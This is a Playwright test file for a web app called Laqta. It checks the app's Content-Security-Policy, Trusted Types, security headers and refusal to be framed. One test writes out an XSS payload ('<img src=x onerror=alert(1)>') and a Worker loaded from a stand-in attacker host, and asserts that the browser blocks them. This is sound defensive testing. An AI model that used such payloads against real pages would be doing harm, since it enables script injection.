import { test, expect, openApp } from './fixtures';

test('R21: the built index.html carries the CSP, with Trusted Types, before any script, and the host sends it as a header with framing refused', async ({ request }) => {
  const response = await request.get('./');
  const html = await response.text();
  const meta = /<meta http-equiv="Content-Security-Policy" content="([^"]+)"/.exec(html);
  expect(meta, 'dist/index.html has a CSP meta').not.toBeNull();
  const policy = meta![1]!;
  expect(policy).toContain("require-trusted-types-for 'script'");
  expect(policy).toContain('trusted-types default svelte-trusted-html dompurify laqta-markdown');
  expect(policy).toContain("default-src 'none'");
  expect(html.indexOf('Content-Security-Policy')).toBeLessThan(html.indexOf('<script'));
  const headers = response.headers();
  expect(headers['content-security-policy']).toBe(`${policy}; frame-ancestors 'none'`);
  expect(headers['x-content-type-options']).toBe('nosniff');
  expect(headers['referrer-policy']).toBe('no-referrer');
});

test('R21: under Trusted Types the app composes in the editor, saves, searches and opens lessons with no violation', async ({ page }) => {
  await openApp(page, '#/compose');
  await page.getByRole('button', { name: 'New prompt' }).click();
  await page.getByLabel('Title').fill('Trusted');
  await page.getByRole('textbox', { name: 'Prompt', exact: true }).fill('A slow dolly-in on a lighthouse at dusk.');
  await page.keyboard.press('Control+s');
  await expect(page.getByText('Saved', { exact: true })).toBeVisible();
  await openApp(page, '#/library');
  await page.getByRole('searchbox').first().fill('lighthouse');
  await expect(page.getByText('Trusted', { exact: true })).toBeVisible();
  await openApp(page, '#/learn');
  await expect(page.getByRole('article').getByRole('heading').first()).toBeVisible();
});

test('R19: HTML put into the page from a string is refused by the browser (Trusted Types), so no injected markup can run', async ({ browser, baseURL }) => {
  // A context of its own: the refusal is logged as a violation, which is the point here.
  const context = await browser.newContext({ baseURL });
  const page = await context.newPage();
  await openApp(page, '#/compose');
  const refused = await page.evaluate(() => {
    const attempts: (() => void)[] = [
      () => void (document.createElement('div').innerHTML = '<img src=x onerror=alert(1)>'),
      () => void document.body.insertAdjacentHTML('beforeend', '<b>x</b>'),
      () => void new Worker('data:text/javascript,postMessage(1)'),
      () => void new Worker('https://evil.example/w.js'),
    ];
    return attempts.map((attempt) => {
      try {
        attempt();
        return 'ran';
      } catch (error) {
        return error instanceof TypeError || (error as Error).name === 'SecurityError' ? 'refused' : String(error);
      }
    });
  });
  expect(refused).toEqual(['refused', 'refused', 'refused', 'refused']);
  await context.close();
});

test('framed by another page, Laqta does not load (frame-ancestors), and the page that framed it gets nothing', async ({ browser, baseURL }) => {
  // A context of its own: the refused frame is a console error there, which is the point.
  const context = await browser.newContext();
  const page = await context.newPage();
  const refusals: string[] = [];
  page.on('console', (m) => refusals.push(m.text()));
  await page.setContent(`<iframe src="${baseURL}" title="framed"></iframe>`);
  await expect.poll(() => refusals.some((t) => /frame-ancestors/.test(t))).toBe(true);
  const frame = page.frames().find((f) => f !== page.mainFrame());
  expect(await frame?.locator('nav').count().catch(() => 0)).toBe(0);
  await context.close();
});
